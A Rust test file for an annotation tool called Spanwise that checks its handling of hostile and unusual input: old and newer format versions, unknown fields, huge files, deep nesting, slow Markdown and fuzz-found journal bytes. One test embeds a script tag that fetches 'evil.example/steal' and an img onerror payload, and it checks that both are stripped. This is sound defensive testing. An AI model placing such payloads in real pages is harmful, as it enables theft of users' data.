//! Hostile and unusual input: every format version's fixture, newer versions, unknown fields,
//! huge files and lines, a million annotations, deep nesting, Markdown built to be slow, and
//! property tests that random projects save and load exactly and that damaged bytes never crash
//! a reader. See docs/RELIABILITY.md for the list of faults and results.
#![cfg(feature = "gui")]

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use proptest::prelude::*;
use spanwise::edit::{Applied, Direction, Edit, apply};
use spanwise::formats::{self, ImportError};
use spanwise::model::{
    Annotation, Annotator, Document, Fragment, IdGenerator, ItemId, Memo, MemoTarget, Project, Relation, Value,
    validate,
};
use spanwise::store::{self, LoadError, journal, unknown::Anchor};

fn fixtures() -> PathBuf {
    common::manifest_dir().join("tests/fixtures")
}

fn fixture(version: u32) -> PathBuf {
    fixtures().join(format!("v{version}.spanwise.ron"))
}

// ---------------------------------------------------------------------------------------------
// Versions

#[test]
fn every_format_version_has_a_fixture_that_loads() {
    for version in 1..=store::FORMAT_VERSION {
        let path = fixture(version);
        let project = store::load(&path).unwrap_or_else(|err| panic!("{}: {err}", path.display()));
        assert!(project.annotation_count() > 0, "{}", path.display());
    }
    // And no fixture for a version this build does not read.
    assert!(!fixture(store::FORMAT_VERSION + 1).exists());
}

#[test]
fn the_v1_fixture_has_every_field_and_loads_exactly() {
    let path = fixture(1);
    let project = store::load(&path).unwrap();
    assert_eq!(project.name, "Format version 1 fixture");
    assert!(project.description.contains('\n') && project.description.contains('\t'));
    assert!(project.instructions.ends_with("\nشبکه\u{200c}ها 社交媒体 🎉"), "{}", project.instructions);
    assert_eq!(project.codebook.labels.len(), 5);
    assert_eq!(project.codebook.top_label("factual"), "claim", "a sub-label");
    assert!(project.codebook.locked);
    assert_eq!(project.codebook.attributes.len(), 2);
    assert_eq!(project.codebook.document_fields.len(), 2);
    assert_eq!(project.documents.len(), 2);
    let first = &project.documents[0];
    assert_eq!(first.annotations.len(), 6);
    assert_eq!(first.relations[0].note, "direct quote");
    assert_eq!(first.slice(31..43), Some("👨\u{200d}👩\u{200d}👧 family"));
    let second = &project.documents[1];
    assert_eq!(second.variables["outlet"], Value::Text("IranWire".into()));
    let claim = &second.annotations[0];
    assert_eq!(claim.text(), "a discontinuous … here");
    assert_eq!(claim.attributes["confidence"], Value::Number(0.75));
    assert_eq!(claim.attributes["stance"], Value::Choice("against".into()));
    assert!(claim.note.contains('\n'));
    let targets: Vec<&MemoTarget> = project.memos.iter().map(|m| &m.target).collect();
    assert_eq!(
        targets,
        [
            &MemoTarget::Project,
            &MemoTarget::Document("d1".into()),
            &MemoTarget::Label("claim".into()),
            &MemoTarget::Annotation(claim.id)
        ]
    );
    // The current version writes version 1 exactly as the fixture has it. (When the format
    // changes, this line goes: old fixtures must still load, not be written again.)
    assert_eq!(store::to_string(&project), std::fs::read_to_string(&path).unwrap());
}

#[test]
fn a_newer_version_is_refused_naming_both_versions() {
    let newer = std::fs::read_to_string(fixture(1)).unwrap().replacen("version: 1,", "version: 2,", 1);
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("newer.spanwise.ron");
    std::fs::write(&path, &newer).unwrap();
    let message = store::load(&path).unwrap_err().to_string();
    assert!(message.contains("format version 2") && message.contains("versions up to 1"), "{message}");
    // A newer file with fields and syntax this version cannot parse gets the same message, not
    // a syntax error.
    let stranger = newer.replacen("memos: [", "future_block: Something(new, [1, 2]),\n    memos: [", 1);
    let message = store::from_str(&stranger.replace("target: Project", "target: Paragraph(3)")).unwrap_err();
    assert!(matches!(message, LoadError::NewerVersion { found: 2, supported: 1 }), "{message}");
}

/// The v1 fixture with fields this version does not know, at every level.
fn with_unknown_fields() -> String {
    let text = std::fs::read_to_string(fixture(1)).unwrap();
    let claim_line = text.lines().find(|l| l.contains("text: \"a discontinuous\"")).unwrap();
    let claim_with = claim_line.replacen("(id: ", "(confidence_source: Model(\"gpt\", 0.9), id: ", 1);
    let claim_with = claim_with.replacen("text: \"here\")", "text: \"here\", checked: true)", 1);
    text.replacen("  version: 1,\n", "  version: 1,\n  generator: \"a script\",\n", 1)
        .replacen("    name: \"Format version 1 fixture\",\n", "    name: \"Format version 1 fixture\",\n    license: Some(\"CC-BY\"),\n", 1)
        .replacen("          color: \"#e15759\",\n", "          color: \"#e15759\",\n          shortcut_hint: \"press 1\",\n", 1)
        .replacen("        name: \"second.md\",\n", "        name: \"second.md\",\n        language: \"en\",\n        reviewed: [(by: \"ana\", on: \"2026-01-02\")],\n", 1)
        .replacen(claim_line, &claim_with, 1)
        .replacen("note: \"direct quote\")", "note: \"direct quote\", weight: 2.5)", 1)
        .replacen("        title: \"Memo 4\",\n", "        title: \"Memo 4\",\n        pinned: true,\n", 1)
}

#[test]
fn unknown_fields_are_ignored_on_load_and_kept_on_save() {
    let text = with_unknown_fields();
    let (project, unknown) = store::from_str_keeping_unknown(&text).expect("unknown fields do not stop loading");
    assert_eq!(project, store::load(&fixture(1)).unwrap(), "the known fields are read as usual");
    let names: Vec<&str> = unknown.fields.iter().map(|f| f.name.as_str()).collect();
    assert_eq!(
        names,
        [
            "generator",
            "license",
            "shortcut_hint",
            "weight",
            "language",
            "reviewed",
            "confidence_source",
            "checked",
            "pinned"
        ]
    );
    let claim = project.documents[1].annotations[0].id;
    let field = |name: &str| unknown.fields.iter().find(|f| f.name == name).unwrap();
    assert_eq!(field("generator").anchor, Anchor::File);
    assert_eq!(field("license").anchor, Anchor::Project);
    assert_eq!(field("license").value, "Some(\"CC-BY\")");
    assert_eq!(field("shortcut_hint").anchor, Anchor::Label("claim".into()));
    assert_eq!(field("reviewed").anchor, Anchor::Document("d2".into()));
    assert_eq!(field("reviewed").value, "[(by: \"ana\", on: \"2026-01-02\")]");
    assert_eq!(field("confidence_source").anchor, Anchor::Annotation { document: "d2".into(), id: claim });
    assert_eq!(field("confidence_source").value, "Model(\"gpt\", 0.9)");
    assert_eq!(field("checked").anchor, Anchor::Fragment { document: "d2".into(), annotation: claim, index: 1 });
    assert_eq!(field("pinned").anchor, Anchor::Memo(project.memos[3].id));

    // Saved, loaded, saved: every field is still there, in its place (at the end of its struct),
    // and the output is stable.
    let sorted = |fields: &store::UnknownFields| {
        let mut fields = fields.fields.clone();
        fields.sort_by(|a, b| a.name.cmp(&b.name));
        fields
    };
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("p.spanwise.ron");
    store::save_file_with(&project, &path, &unknown).unwrap();
    let loaded = store::load_file(&path).unwrap();
    assert_eq!(loaded.project, project);
    assert_eq!(sorted(&loaded.unknown), sorted(&unknown));
    let saved = std::fs::read_to_string(&path).unwrap();
    store::save_file_with(&loaded.project, &path, &loaded.unknown).unwrap();
    assert_eq!(std::fs::read_to_string(&path).unwrap(), saved);
    // One annotation per line still holds with its unknown fields.
    let claim_lines: Vec<&str> = saved.lines().filter(|l| l.contains(&format!("id: {claim},"))).collect();
    assert_eq!(claim_lines.len(), 1);
    assert!(claim_lines[0].contains("confidence_source: Model(\"gpt\", 0.9)"), "{}", claim_lines[0]);
    assert!(claim_lines[0].contains("text: \"here\", checked: true)"), "{}", claim_lines[0]);

    // Edited: the field follows its annotation; deleted: it goes with it.
    let mut edited = project.clone();
    let mut changed = edited.documents[1].annotations[0].clone();
    changed.label = "quote".into();
    apply(&mut edited, Edit::UpdateAnnotation { document: "d2".into(), annotation: *changed }).unwrap();
    let text = store::to_string_with(&edited, &unknown);
    let (_, kept) = store::from_str_keeping_unknown(&text).unwrap();
    assert_eq!(sorted(&kept), sorted(&unknown));
    apply(&mut edited, Edit::RemoveAnnotation { document: "d2".into(), id: claim }).unwrap();
    edited.memos.retain(|m| m.target != MemoTarget::Annotation(claim));
    let text = store::to_string_with(&edited, &unknown);
    let (_, kept) = store::from_str_keeping_unknown(&text).unwrap();
    let mut names: Vec<&str> = kept.fields.iter().map(|f| f.name.as_str()).collect();
    names.sort();
    assert_eq!(names, ["generator", "language", "license", "reviewed", "shortcut_hint", "weight"]);
}

#[test]
fn unknown_fields_survive_editing_and_saving_in_the_app() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("p.spanwise.ron");
    let sample = std::fs::read_to_string(common::sample_project_path()).unwrap();
    let with_fields = sample.replacen("  version: 1,\n", "  version: 1,\n  generator: \"a script\",\n", 1).replacen(
        "(id: 3723374272651931, ",
        "(id: 3723374272651931, reviewed: Some(true), ",
        1,
    );
    std::fs::write(&path, with_fields).unwrap();
    let settings = spanwise::settings::Settings { annotator_name: "Test Coder".into(), ..Default::default() };
    let mut app = spanwise::ui::SpanwiseApp::new(spanwise::ui::AppConfig { settings, settings_path: None });
    app = app.with_file(&path);
    let gone = app.project().documents[0].annotations.iter().find(|a| a.text() == "IranWire").unwrap().id;
    app.command(spanwise::ui::Command::SelectAnnotation(gone));
    app.command(spanwise::ui::Command::DeleteAnnotation);
    app.command(spanwise::ui::Command::Save);
    let mut harness = egui_kittest::Harness::builder()
        .with_size(egui::vec2(1400.0, 900.0))
        .build_ui_state(|ui, app: &mut spanwise::ui::SpanwiseApp| app.frame_ui(ui), app);
    harness.run();
    assert!(!harness.state().is_dirty());
    let loaded = store::load_file(&path).unwrap();
    assert!(loaded.project.documents[0].annotation(gone).is_none(), "the edit was saved");
    let fields: Vec<(&str, &str)> = loaded.unknown.fields.iter().map(|f| (f.name.as_str(), f.value.as_str())).collect();
    // Written back at the end of their structs: the annotation's, then the file's.
    assert_eq!(fields, [("reviewed", "Some(true)"), ("generator", "\"a script\"")]);
    assert_eq!(
        loaded.unknown.fields[0].anchor,
        Anchor::Annotation { document: "d1".into(), id: ItemId(3723374272651931) }
    );
}

#[test]
fn an_unknown_variant_is_refused_with_its_line() {
    let text = std::fs::read_to_string(fixture(1)).unwrap().replacen("target: Project,", "target: Paragraph(3),", 1);
    let line = text.lines().position(|l| l.contains("Paragraph(3)")).unwrap() + 1;
    let message = store::from_str(&text).unwrap_err().to_string();
    assert!(message.contains(&format!("line {line}:")), "{message}");
}

// ---------------------------------------------------------------------------------------------
// Huge inputs

fn sparse_file(path: &Path, size: u64) {
    std::fs::File::create(path).unwrap().set_len(size).unwrap();
}

#[test]
fn a_project_file_over_the_limit_is_refused_without_reading_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.spanwise.ron");
    sparse_file(&path, store::MAX_FILE_BYTES + 1);
    let start = Instant::now();
    let message = store::load(&path).unwrap_err().to_string();
    assert!(start.elapsed() < Duration::from_secs(2), "{:?}", start.elapsed());
    assert!(message.contains("Spanwise refuses project files over 1073741824 bytes"), "{message}");
}

#[test]
fn a_200_mb_text_is_refused_at_once_and_the_app_says_why() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.txt");
    sparse_file(&path, 200_000_000);
    let start = Instant::now();
    let err = formats::import_path(&path, "d1".into()).unwrap_err();
    assert!(start.elapsed() < Duration::from_secs(1), "refused without reading: {:?}", start.elapsed());
    assert!(matches!(err, ImportError::TooLarge { size: 200_000_000, .. }), "{err}");
    assert!(err.to_string().contains("Spanwise imports texts of at most 67108864 bytes"), "{err}");
    let settings = spanwise::settings::Settings { annotator_name: "Test Coder".into(), ..Default::default() };
    let app =
        spanwise::ui::SpanwiseApp::new(spanwise::ui::AppConfig { settings, settings_path: None }).with_file(&path);
    match &app.dialog {
        Some(spanwise::ui::dialogs::Dialog::Error { title, message }) => {
            assert_eq!(title, "Cannot open the text");
            assert!(message.contains("at most 67108864 bytes"), "{message}");
        }
        other => panic!("expected an error dialog, got {other:?}"),
    }
}

#[test]
fn an_endless_input_is_cut_off_at_the_limit() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("zero.txt");
    std::os::unix::fs::symlink("/dev/zero", &path).unwrap();
    let err = formats::import_path(&path, "d1".into()).unwrap_err();
    assert!(matches!(err, ImportError::TooLarge { .. }), "{err}");
}

#[test]
fn a_5_mb_single_line_imports_tags_and_round_trips() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("line.txt");
    let sentence = "Die Wächter des Rates prüften die Kandidaten vor der Wahl. 社交媒体. ";
    let mut line = sentence.repeat(5_000_000 / sentence.len() + 1);
    line.push_str("Letzte Worte");
    assert!(line.len() > 5_000_000 && !line.contains('\n'));
    std::fs::write(&path, &line).unwrap();
    let start = Instant::now();
    let document = formats::import_path(&path, "d1".into()).unwrap();
    assert!(start.elapsed() < Duration::from_secs(10), "{:?}", start.elapsed());
    assert_eq!(document.text, line);
    let mut project = Project::new("one line");
    project.documents.push(document);
    project.annotators.push(Annotator { id: "ana".into(), name: "Ana".into() });
    let end = project.documents[0].char_len();
    let fragment = project.documents[0].fragment(end - 5..end).unwrap();
    assert_eq!(fragment.text, "Worte");
    let annotation = Annotation {
        id: ItemId(1),
        label: "claim".into(),
        fragments: vec![fragment],
        annotator: "ana".into(),
        created: common::time(),
        modified: common::time(),
        note: String::new(),
        attributes: Default::default(),
    };
    apply(&mut project, Edit::AddAnnotation { document: "d1".into(), annotation }).unwrap();
    let saved = dir.path().join("line.spanwise.ron");
    store::save(&project, &saved).unwrap();
    assert_eq!(store::load(&saved).unwrap(), project);
}

/// A project file with one document and `count` annotations, written directly (fast).
fn write_many_annotations(path: &Path, count: usize) {
    use std::fmt::Write;
    let word = "word ";
    let text = word.repeat(count);
    let sha = spanwise::model::sha256_hex(&text);
    let mut out = String::with_capacity(count * 190);
    out.push_str("// Spanwise project file.\n(\n  format: \"spanwise\",\n  version: 1,\n  project: (\n");
    out.push_str("    name: \"many\",\n    created: \"2026-01-01T00:00:00Z\",\n");
    let codebook = ron::to_string(&spanwise::model::Codebook::default_news()).unwrap();
    writeln!(out, "    codebook: {codebook},").unwrap();
    out.push_str("    annotators: [(id: \"a\", name: \"A\")],\n    documents: [(\n      id: \"d1\",\n      name: \"many.txt\",\n");
    writeln!(out, "      sha256: \"{sha}\",\n      text: \"{text}\",\n      annotations: [").unwrap();
    let mut ids = IdGenerator::seeded(5);
    let mut used = std::collections::HashSet::new();
    for i in 0..count {
        let mut id = ids.next_id();
        while !used.insert(id) {
            id = ids.next_id();
        }
        let start = i * word.len();
        writeln!(
            out,
            "        (id: {id}, label: \"actor\", fragments: [(start: {start}, end: {}, text: \"word\")], annotator: \"a\", \
             created: \"2026-01-01T00:00:00Z\", modified: \"2026-01-01T00:00:00Z\"),",
            start + 4
        )
        .unwrap();
    }
    out.push_str("      ],\n    )],\n  ),\n)\n");
    std::fs::write(path, out).unwrap();
}

fn spanwise_cli(args: &[&str], shell_prefix: Option<&str>) -> std::process::Output {
    let binary = env!("CARGO_BIN_EXE_spanwise");
    match shell_prefix {
        None => Command::new(binary).args(args).output().unwrap(),
        Some(prefix) => {
            let quoted: Vec<String> = args.iter().map(|a| format!("'{a}'")).collect();
            Command::new("sh")
                .arg("-c")
                .arg(format!("{prefix}; exec '{binary}' {}", quoted.join(" ")))
                .output()
                .unwrap()
        }
    }
}

/// A project file with a million annotations (≈ 190 MB) in `dir`.
fn million_file(dir: &Path) -> PathBuf {
    let path = dir.join("million.spanwise.ron");
    write_many_annotations(&path, 1_000_000);
    let size = std::fs::metadata(&path).unwrap().len();
    assert!(size > 150_000_000, "{size}");
    path
}

#[test]
fn a_million_annotations_load_with_the_memory_they_need() {
    use std::os::unix::process::ExitStatusExt;
    let dir = tempfile::tempdir().unwrap();
    let path = &million_file(dir.path());
    let size = std::fs::metadata(path).unwrap().len();
    let needed = size * store::MEMORY_PER_FILE_BYTE;
    if let Some(available) = store::available_memory()
        && available < needed
    {
        let message = format!(
            "a_million_annotations_load_with_the_memory_they_need: this machine has {} MB available, loading \
             needs about {} MB, so the loading could not be checked",
            available / 1_000_000,
            needed / 1_000_000
        );
        assert!(std::env::var_os("CI").is_none(), "{message} (CI must have the memory)");
        eprintln!("SKIPPED {message}");
        return;
    }
    let output = spanwise_cli(&["validate", path.to_str().unwrap()], None);
    let (stdout, stderr) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert_eq!(output.status.signal(), None, "killed: {stderr}");
    assert!(output.status.success(), "{stdout}{stderr}");
    assert!(stdout.contains("valid (1 documents, 1000000 annotations)"), "{stdout}{stderr}");
}

#[test]
fn a_million_annotations_in_too_little_memory_are_refused_never_killed() {
    use std::os::unix::process::ExitStatusExt;
    let dir = tempfile::tempdir().unwrap();
    let path = &million_file(dir.path());
    // In a process limited to 300 MB of address space (a small machine): refused, with a message,
    // before anything is read.
    let output = spanwise_cli(&["validate", path.to_str().unwrap()], Some("ulimit -v 300000"));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.signal(), None, "killed: {stderr}");
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("opening it needs about") && stderr.contains("MB of memory"), "{stderr}");
}

#[test]
fn deep_nesting_is_an_error_not_a_stack_overflow() {
    let deep = format!("(format: \"spanwise\", version: 1, project: {}", "[".repeat(200_000));
    assert!(store::from_str(&deep).is_err());
    let deep = format!("(format: \"spanwise\", version: 1, project: (name: {}", "Some(".repeat(200_000));
    assert!(store::from_str(&deep).is_err());
    let journal = format!("{}\n", "[".repeat(200_000));
    assert!(journal::parse(journal.as_bytes(), Path::new("j")).is_err());
}

#[test]
fn markdown_built_to_be_slow_imports_in_linear_time() {
    let cases = [
        ("nested links", format!("{}x{}", "[".repeat(50_000), "](u)".repeat(50_000))),
        ("unclosed links", "[a](".repeat(300_000)),
        ("unclosed tags", "<a".repeat(300_000)),
        ("open brackets", "[".repeat(1_000_000)),
        ("brackets then parens", format!("{}{}", "[]".repeat(300_000), "(".repeat(300_000))),
        ("emphasis runs", "*_`".repeat(300_000)),
    ];
    for (what, markdown) in cases {
        let start = Instant::now();
        let document = formats::markdown::import(&markdown, "d1".into(), "x.md".into());
        assert!(start.elapsed() < Duration::from_secs(10), "{what}: {:?}", start.elapsed());
        assert!(document.text.len() <= markdown.len(), "{what}");
    }
}

#[test]
fn scripts_and_remote_images_stay_inert_text() {
    let markdown = "# Title\n\n<script>fetch('http://evil.example/steal')</script> Hello \
                    ![a chart](http://evil.example/track.png) <img src=\"http://evil.example/x.png\" onerror=\"alert(1)\">";
    let document = formats::markdown::import(markdown, "d1".into(), "x.md".into());
    assert!(!document.text.contains("<script") && !document.text.contains("<img"), "{}", document.text);
    assert!(document.text.contains("a chart"), "alt text kept: {}", document.text);
    assert!(!document.text.contains("track.png"), "{}", document.text);
    // The only network code is the explicit URL import (`formats::fetch`, for `spanwise import URL`
    // and Open URL): no other module uses the HTTP client, so no text or page makes Spanwise fetch.
    let mut users = Vec::new();
    let mut folders = vec![common::manifest_dir().join("src")];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).unwrap().flatten() {
            let path = entry.path();
            if path.is_dir() {
                folders.push(path);
            } else if std::fs::read_to_string(&path).unwrap_or_default().contains("ureq::") {
                users.push(path.strip_prefix(common::manifest_dir()).unwrap().display().to_string());
            }
        }
    }
    assert_eq!(users, ["src/formats/fetch.rs"]);
}

#[test]
fn crlf_line_ends_and_a_byte_order_mark_are_tolerated() {
    let text = std::fs::read_to_string(fixture(1)).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("windows.spanwise.ron");
    std::fs::write(&path, format!("\u{feff}{}", text.replace('\n', "\r\n"))).unwrap();
    assert_eq!(store::load(&path).unwrap(), store::load(&fixture(1)).unwrap());
}

// ---------------------------------------------------------------------------------------------
// Found by fuzzing (`fuzz/`, see "Fuzzing" in docs/RELIABILITY.md): each input exactly as found
// or minimized.

/// The project the `journal` fuzz target replays onto: document "d1" and annotator "a".
fn fuzz_journal_base() -> Project {
    let mut base = Project::new("fuzz");
    base.documents.push(Document::new("d1", "d1.txt", "Müller said 🎉 that the council met.\nشبکه".to_owned()));
    base.annotators.push(Annotator { id: "a".into(), name: "A".into() });
    base
}

/// Replays journal bytes onto [`fuzz_journal_base`] as recovery does (keep going past edits
/// that do not apply); the result must be valid, and the messages of skipped edits are returned.
fn replay_fuzz_journal(bytes: &[u8]) -> (Project, Vec<String>) {
    let contents = journal::parse(bytes, Path::new("fuzz.journal")).expect("the journal parses");
    let replayed = journal::replay(fuzz_journal_base(), &contents.entries, true);
    assert_eq!(validate(&replayed.project), vec![], "replay produced an invalid project");
    (replayed.project, replayed.failed)
}

const FUZZ_JOURNAL_HEADER: &str = "(journal:\"spanwise-journal\",version:1,session:\"s\",pid:1,host:\"h\",\
    started:\"2026-01-02T03:04:05Z\",project_path:None,base:File(sha256:\"\",size:0))\n";

#[test]
fn a_journalled_document_whose_text_does_not_match_its_hash_is_refused() {
    // fuzz target `journal`, exactly as `cargo fuzz tmin` left it: an added document whose text
    // does not match its hash. `AddDocument` only checked ids, so recovery produced a project
    // that cannot be saved ("sha256 … does not match the text").
    let journal: &[u8] = b"(journal:\"spanwise-journal\",version:1,session:\"s\",pid:1,host:\"h\",\
started:\"2026-11-27T23:05:57.703Z\",te_path:None,base:File(sha256:\"2d7a4881\",size:1),unknown:(fields:[]))\n\
(seq:1,time:\"2026-11-27T23:05:57.703Z\",dir:\":57.703Z\",direction:Apply,edit:AddDocument(index:1,document:(id:\"d2\",\
name:\"d2.md\",sha256:\"f4b72aca36348\",text:\"Zweies \x00\x00\x00\x00\x10\x00\x00\x00\x00\x00\x00.\",as:[])))\n,aions:[]\n";
    assert_eq!(journal.len(), 365);
    let (project, failed) = replay_fuzz_journal(journal);
    assert!(project.document("d2").is_none());
    assert_eq!(failed.len(), 1, "{failed:?}");
    assert!(
        failed[0].starts_with(
            "edit 1 (add document d2.md): cannot add the document \"d2\": document \"d2\": sha256 f4b72aca36348 \
             does not match the text"
        ),
        "{}",
        failed[0]
    );
}

#[test]
fn a_journalled_document_with_annotations_is_checked_like_a_loaded_file() {
    // Same root cause: everything `validate` checks of a document is checked when it is added.
    let text = "Hello world";
    let sha = spanwise::model::sha256_hex(text);
    let time = "2026-01-02T03:04:05Z";
    let cases = [
        (
            "id:\"\"",
            "(id:5,label:\"claim\",fragments:[(start:0,end:5,text:\"Hello\")],annotator:\"a\",created:\"T\",modified:\"T\")",
            "document id is empty",
        ),
        (
            "id:\"d2\"",
            "(id:5,label:\"claim\",fragments:[(start:0,end:5,text:\"Hallo\")],annotator:\"a\",created:\"T\",modified:\"T\")",
            "differs from the document text",
        ),
        (
            "id:\"d2\"",
            "(id:5,label:\"claim\",fragments:[(start:0,end:5,text:\"Hello\")],annotator:\"nobody\",created:\"T\",modified:\"T\")",
            "unknown annotator \"nobody\"",
        ),
        (
            "id:\"d2\"",
            "(id:5,label:\"claim\",fragments:[(start:0,end:5,text:\"Hello\")],annotator:\"a\",created:\"T\",modified:\"T\"),(id:5,label:\"claim\",fragments:[(start:6,end:11,text:\"world\")],annotator:\"a\",created:\"T\",modified:\"T\")",
            "duplicate id",
        ),
    ];
    for (id, annotations, expected) in cases {
        let annotations = annotations.replace("\"T\"", &format!("\"{time}\""));
        let journal = format!(
            "{FUZZ_JOURNAL_HEADER}(seq:1,time:\"{time}\",direction:Apply,edit:AddDocument(index:1,document:({id},\
             name:\"d2.txt\",sha256:\"{sha}\",text:\"{text}\",annotations:[{annotations}])))\n"
        );
        let (project, failed) = replay_fuzz_journal(journal.as_bytes());
        assert_eq!(project.documents.len(), 1, "{expected}");
        assert_eq!(failed.len(), 1, "{expected}: {failed:?}");
        assert!(failed[0].contains("cannot add the document") && failed[0].contains(expected), "{}", failed[0]);
    }
}

#[test]
fn a_journalled_annotation_by_an_unknown_annotator_or_modified_before_created_is_refused() {
    // Same root cause, in `AddAnnotation` and `UpdateAnnotation`: an edit may not make a valid
    // project invalid (`validate` reports both).
    let edit = |seq: u32, kind: &str, annotator: &str, created: &str, modified: &str| {
        format!(
            "(seq:{seq},time:\"2026-01-02T03:04:05Z\",direction:Apply,edit:{kind}(document:\"d1\",annotation:(id:7,\
             label:\"actor\",fragments:[(start:0,end:6,text:\"Müller\")],annotator:\"{annotator}\",\
             created:\"{created}\",modified:\"{modified}\")))\n"
        )
    };
    let (early, late) = ("2026-01-02T03:04:05Z", "2026-01-02T03:04:06Z");
    let journal = [
        FUZZ_JOURNAL_HEADER.to_owned(),
        edit(1, "AddAnnotation", "nobody", early, early),
        edit(2, "AddAnnotation", "a", late, early),
        edit(3, "AddAnnotation", "a", early, late),
        edit(4, "UpdateAnnotation", "nobody", early, late),
        edit(5, "UpdateAnnotation", "a", late, early),
    ]
    .concat();
    let (project, failed) = replay_fuzz_journal(journal.as_bytes());
    assert_eq!(project.documents[0].annotations.len(), 1, "only edit 3 applies");
    assert_eq!(failed.len(), 4, "{failed:?}");
    assert!(failed[0].starts_with("edit 1 (add actor): no annotator \"nobody\""), "{}", failed[0]);
    assert!(failed[1].starts_with("edit 2 (add actor): it was modified (2026-01-02T03:04:05+00:00) before it was created (2026-01-02T03:04:06+00:00)"), "{}", failed[1]);
    assert!(failed[2].starts_with("edit 4 (change annotation): no annotator \"nobody\""), "{}", failed[2]);
    assert!(failed[3].starts_with("edit 5 (change annotation): it was modified"), "{}", failed[3]);
    // And a relation by an unknown annotator.
    let relation = "(seq:2,time:\"2026-01-02T03:04:05Z\",direction:Apply,edit:Batch([AddAnnotation(document:\"d1\",\
        annotation:(id:8,label:\"quote\",fragments:[(start:14,end:34,text:\"that the council met\")],annotator:\"a\",\
        created:\"2026-01-02T03:04:05Z\",modified:\"2026-01-02T03:04:05Z\")),AddRelation(document:\"d1\",relation:(id:9,\
        kind:\"attributed_to\",from:8,to:7,annotator:\"nobody\",created:\"2026-01-02T03:04:05Z\",\
        modified:\"2026-01-02T03:04:05Z\"))]))\n";
    let journal =
        [FUZZ_JOURNAL_HEADER.to_owned(), edit(1, "AddAnnotation", "a", early, late), relation.to_owned()].concat();
    let (project, failed) = replay_fuzz_journal(journal.as_bytes());
    assert_eq!(project.documents[0].annotations.len(), 1, "the batch is rolled back whole");
    assert!(failed.len() == 1 && failed[0].contains("no annotator \"nobody\""), "{failed:?}");
}

/// A small project file in Spanwise's own layout (so `store::reader` reads it), with one
/// annotation line in which `{created}` is put.
fn own_layout_file(created: &str) -> String {
    format!(
        "(\n  format: \"spanwise\",\n  version: 1,\n  project: (\n    name: \"p\",\n    created: \"2026-01-02T03:04:05Z\",\n    \
         codebook: (\n      labels: [\n        (id: \"claim\", name: \"Claim\", color: \"#e15759\"),\n      ],\n    ),\n    \
         annotators: [\n      (id: \"a\", name: \"A\"),\n    ],\n    documents: [\n      (\n        id: \"d1\",\n        \
         name: \"d1.txt\",\n        sha256: \"185f8db32271fe25f561a6fc938b2e264306ec304eda518007d1764826381969\",\n        \
         text: \"Hello\",\n        annotations: [\n          (id: 1, label: \"claim\", fragments: [(start: 0, end: 5, \
         text: \"Hello\")], annotator: \"a\", created: \"{created}\", modified: \"2026-01-02T03:04:05Z\"),\n        ],\n      \
         ),\n    ],\n  ),\n)\n"
    )
}

#[test]
fn a_timestamp_cut_inside_a_character_is_an_error_not_a_panic() {
    // The fast reader sliced a timestamp at byte 19 without checking it was a character boundary:
    // `…:0€Z` (the `€` spans bytes 18..21) panicked instead of being refused.
    let good = own_layout_file("2026-01-02T03:04:05Z");
    assert!(store::reader::split(&good).is_some(), "the fast reader reads this layout");
    assert_eq!(store::from_str(&good).unwrap().documents[0].annotations.len(), 1);
    let damaged = own_layout_file("2026-01-02T03:04:0€Z");
    match store::from_str(&damaged) {
        Err(LoadError::Invalid(problems)) => {
            assert_eq!(problems.len(), 1, "{problems:?}");
            assert_eq!(problems[0].line, Some(22), "{problems:?}");
            assert!(problems[0].message.contains("input contains invalid characters"), "{problems:?}");
        }
        other => panic!("expected a line-numbered error, got {other:?}"),
    }
}

#[test]
fn the_fast_reader_refuses_what_ron_refuses() {
    // `from_str_radix` and `parse` take a sign, and `\u{…}` took any number of digits: the fast
    // reader loaded files that ron (and so the format) refuses. Each must be refused with ron's
    // message.
    let good = own_layout_file("2026-01-02T03:04:04.678Z");
    assert_eq!(store::from_str(&good).unwrap().documents[0].annotations[0].created.timestamp_subsec_millis(), 678);
    let cases = [
        (good.replace("2026-01-02T03:04:04.678Z", "2026-01-02T03:04:04.+12Z"), "input contains invalid characters"),
        (good.replace("label: \"claim\", fragments", "label: \"\\u{+63}laim\", fragments"), "Non-hex digit found"),
        (
            good.replace("label: \"claim\", fragments", "label: \"\\u{0000063}laim\", fragments"),
            "No } at the end of Unicode escape",
        ),
    ];
    for (file, message) in cases {
        match store::from_str(&file) {
            Err(LoadError::Invalid(problems)) => {
                assert!(problems[0].line == Some(22) && problems[0].message.contains(message), "{problems:?}")
            }
            other => panic!("{message}: expected an error, got {other:?}"),
        }
    }
}

#[test]
fn annotations_before_their_text_stay_with_their_document() {
    // A document whose fields are in another order (annotations before the text: a script's, or
    // moved by hand) had its annotations silently attached to the document before it by the fast
    // reader. Two documents with the same text, so the misplaced result was even valid.
    let file = own_layout_file("2026-01-02T03:04:05Z");
    let first = "      (\n        id: \"d1\",\n        name: \"d1.txt\",\n        sha256: \"185f8db32271fe25f561a6fc938b2e264306ec304eda518007d1764826381969\",\n        text: \"Hello\",\n        annotations: [\n";
    let (before, rest) = file.split_once(first).unwrap();
    let (annotation_lines, after) = rest.split_once("        ],\n").unwrap();
    let reordered = format!(
        "{before}      (\n        id: \"d0\",\n        name: \"d0.txt\",\n        sha256: \"185f8db32271fe25f561a6fc938b2e264306ec304eda518007d1764826381969\",\n        text: \"Hello\",\n      ),\n\
         {}        annotations: [\n{annotation_lines}        ],\n        text: \"Hello\",\n{after}",
        &first[..first.find("        text:").unwrap()],
    );
    let project = store::from_str(&reordered).unwrap();
    let counts: Vec<(&str, usize)> = project.documents.iter().map(|d| (d.id.as_str(), d.annotations.len())).collect();
    assert_eq!(counts, [("d0", 0), ("d1", 1)]);
}

